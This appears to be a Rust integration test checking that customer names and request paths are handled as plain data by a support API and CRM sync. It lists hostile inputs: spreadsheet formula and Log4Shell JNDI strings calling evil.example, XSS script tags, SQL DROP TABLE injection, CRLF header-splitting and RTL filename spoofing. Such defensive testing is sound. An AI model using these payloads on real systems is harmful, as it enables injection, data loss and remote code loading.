//! H38: names that mean something to somebody on the way out. They are kept as given, told as data,
//! and never become markup, a formula or a line of their own.

use serde_json::json;

use crate::{
    beside::Beside,
    customer::Customer,
    world::{API_KEY, World},
};

const NAMES: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "<b>Casey</b><script>alert(1)</script>",
    "Casey\u{202e}gpj.exe",
    "\u{1f331}\u{1f469}\u{200d}\u{1f33e}",
    "'; DROP TABLE session; --",
    "\\u0000 %0d%0a ${jndi:ldap://evil.example}",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn h38_names_come_to_the_agent_and_into_the_crm_as_they_were_given() {
    let world = World::start().await;
    let beside = Beside::start(&world).await;
    let sam = world.bearer("sam").await;
    for name in NAMES {
        let data = json!({"name": name, "note": name});
        let mut customer = Customer::come(&world.server, data.clone()).await;
        let device = format!("/api/1/devices/{}", customer.id());
        assert_eq!(world.server.get(&device, Some(API_KEY)).await.ok()["custom_data"], data, "{name}");
        let session =
            world.server.post("/api/1/sessions", Some(&sam), &json!({"device": customer.id()})).await;
        // JSON that no browser takes for a page.
        assert_eq!(session.header("content-type"), "application/json");
        assert_eq!(session.header("x-content-type-options"), "nosniff");
        assert_eq!(session.json()["device"]["visitor"], name);
        let id = session.ok()["id"].as_str().unwrap().to_owned();
        customer.answer(false).await;
        customer.hear("session.ended").await;
        world.crm_status(&id, "written").await;
        let records = world.records_in_crm().await;
        let record =
            records.iter().find(|record| record["alongside__External_Id__c"] == id.as_str()).unwrap();
        assert_eq!(record["alongside__Customer_Name__c"], name);
    }
    let found = world.server.get("/api/1/devices?search=%3Cb%3E", Some(API_KEY)).await.ok();
    assert_eq!(found["total"], 1, "searched for as text");
    beside.unharmed().await;
}

/// What comes back in an error is what was sent, as data, and no header of its own.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn h38_what_a_request_names_is_quoted_as_data_and_splits_no_answer() {
    let world = World::start().await;
    let beside = Beside::start(&world).await;
    for path in [
        "/api/1/%3Cscript%3Ealert(1)%3C/script%3E",
        "/api/1/devices?%3Cb%3E=1",
        "/api/1/devices?cursor=%0d%0aset-cookie:%20a=b",
        "/api/1/sessions/%1b%5b31m",
        "/sign-in?return_to=%0d%0aset-cookie:%20a=b",
        "/oauth/callback?error=%3Cscript%3Ealert(1)%3C/script%3E",
    ] {
        let answer = world.server.get(path, Some(API_KEY)).await;
        let html = answer.header("content-type").starts_with("text/html");
        assert!(!html || !answer.text.contains("<script"), "{path}: {answer:?}");
        assert!(answer.text.bytes().all(|byte| byte != 0x1b), "{path}: {answer:?}");
        let set =
            answer.headers.get_all("set-cookie").iter().any(|value| value.as_bytes().starts_with(b"a="));
        assert!(!set, "{path}: {answer:?}");
        assert!(!answer.header("location").contains(['\r', '\n']), "{path}: {answer:?}");
    }
    beside.unharmed().await;
}
